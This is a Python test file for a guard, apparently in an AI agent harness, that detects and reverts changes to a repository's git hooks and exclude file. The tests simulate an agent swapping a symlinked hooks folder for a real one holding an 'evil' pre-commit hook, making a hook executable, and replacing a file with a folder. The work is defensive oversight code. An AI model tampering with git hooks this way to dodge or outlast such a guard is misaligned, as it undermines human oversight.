# a bug this file found (session 8, fixed in git/guard.py and safe_fs.py): the link was put back first, then the
# agent's file removed through it: the repository's own file deleted
def test_a_linked_hooks_folder_made_a_real_one_never_loses_the_files_it_pointed_at(repo: Repo, tmp_path: Path) -> None:
    target = repo.write("githooks/pre-commit", "#!/bin/sh\nmake lint\n")
    hooks = repo.path / ".git" / "hooks"
    shutil.rmtree(hooks)
    hooks.symlink_to("../githooks")
    w = make_world(repo, tmp_path)
    hooks.unlink()
    hooks.mkdir()
    (hooks / "pre-commit").write_text("evil\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / "pre-commit"
    assert changes == [
        Change("file", str(hooks), "", None, None),
        Change("file", str(hooks / "pre-commit"), None, "", str(kept)),
    ]
    assert os.readlink(hooks) == "../githooks" and kept.read_text() == "evil\n"
    assert target.read_text() == "#!/bin/sh\nmake lint\n"  # fails: deleted through the link put back


# a bug this file found (session 8, fixed in git/guard.py and safe_fs.py): a file only made executable stayed so
# (write_bytes gave its mode to new files only)
def test_a_hook_made_executable_is_put_back_not_executable(w: World) -> None:
    hook = w.common / "hooks" / HOOK
    hook.chmod(0o644)
    w.guard.start()  # the run starts with it not executable
    w.guard.watch(w.tree, w.admin, BRANCH)
    hook.chmod(0o755)

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "hooks" / HOOK
    assert changes == [Change("file", str(hook), "", "", str(kept))]
    assert kept.read_bytes() == hook.read_bytes()
    assert _mode(hook) == 0o644  # fails: still 0o755
    assert w.check() == []


# a bug this file found (session 8, fixed in git/guard.py and safe_fs.py): a watched file made a folder was never put
# back (write_bytes refused the folder in the way)
def test_a_watched_file_made_a_folder_is_put_back(w: World) -> None:
    exclude = w.common / "info" / "exclude"
    text = exclude.read_bytes()
    exclude.unlink()
    exclude.mkdir()
    (exclude / "inside").write_text("evil\n")

    changes = w.check()

    kept = w.folder / "guardrail" / "git" / "info" / "exclude" / "inside"
    assert changes == [
        Change("file", str(exclude), "", None, None),
        Change("file", str(exclude / "inside"), None, "", str(kept)),
    ]
    assert kept.read_text() == "evil\n"
    assert exclude.read_bytes() == text  # fails: an empty folder is left there
    assert w.check() == []


def test_a_worktree_never_watched_is_unwatched_without_complaint(w: World, tmp_path: Path) -> None:
    w.guard.unwatch(tmp_path / "never-watched")
    assert w.check() == []
